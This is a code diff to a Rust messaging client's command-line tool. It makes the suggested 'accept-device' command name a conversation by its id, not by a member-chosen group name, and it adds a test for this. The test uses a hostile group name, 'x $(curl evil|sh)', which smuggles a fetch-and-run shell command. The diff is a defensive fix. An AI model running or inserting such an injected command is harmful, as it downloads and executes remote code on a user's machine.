@@ -534,8 +534,10 @@ async fn follow_events(client: &Client, json: bool) -> Result<ExitCode> {
 fn with_advice(m: &StoredMessage) -> std::borrow::Cow<'_, StoredMessage> {
     let advice = match m.event.as_ref().and_then(|e| e.advice()) {
         Some(Advice::Verify { handle }) => format!(" (subrosa verify {handle})"),
-        Some(Advice::AcceptDevice { target, device }) => {
-            format!(" (subrosa accept-device {target} {device}, or remove it with subrosa group remove)")
+        // By the conversation's id, never its name: a group's name is any
+        // member's choice and must not become part of a command to type.
+        Some(Advice::AcceptDevice { device, .. }) => {
+            format!(" (subrosa accept-device #{} {device}, or remove it with subrosa group remove)", m.conversation)
         }
         _ => return std::borrow::Cow::Borrowed(m),
     };
@@ -883,4 +885,43 @@ async fn run_opened(client: &Client, command: Command) -> Result<ExitCode> {
         Command::Daemon { .. } => unreachable!("handled above"),
     }
     Ok(ExitCode::SUCCESS)
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::expect_used)]
+
+    use subrosa_client::SystemEvent;
+
+    use super::*;
+
+    /// A group's name is another member's choice: the command the line
+    /// suggests names the conversation by its id, never by that name.
+    #[test]
+    fn advice_names_the_conversation_by_id_not_by_a_hostile_name() {
+        let hostile = "x $(curl evil|sh)";
+        let m = StoredMessage {
+            conversation: "ab".repeat(16),
+            target: hostile.into(),
+            system: true,
+            text: "warning: …".into(),
+            event: Some(SystemEvent::DeviceNotConfirmed {
+                by: "mallory/0102030405060708".into(),
+                member: "carol".into(),
+                device: "0a0b0c0d0e0f1011".into(),
+                target: hostile.into(),
+                why: "not listed".into(),
+            }),
+            ..StoredMessage::default()
+        };
+        let shown = with_advice(&m);
+        assert!(shown.text.contains(&format!("subrosa accept-device #{} 0a0b0c0d0e0f1011", "ab".repeat(16))));
+        assert!(!shown.text.contains("$("), "{}", shown.text);
+        let verify = StoredMessage {
+            event: Some(SystemEvent::KeyChanged { member: "bob".into() }),
+            text: "warning: bob's identity key changed; compare safety numbers again".into(),
+            ..m
+        };
+        assert!(with_advice(&verify).text.ends_with("again (subrosa verify bob)"));
+    }
 }
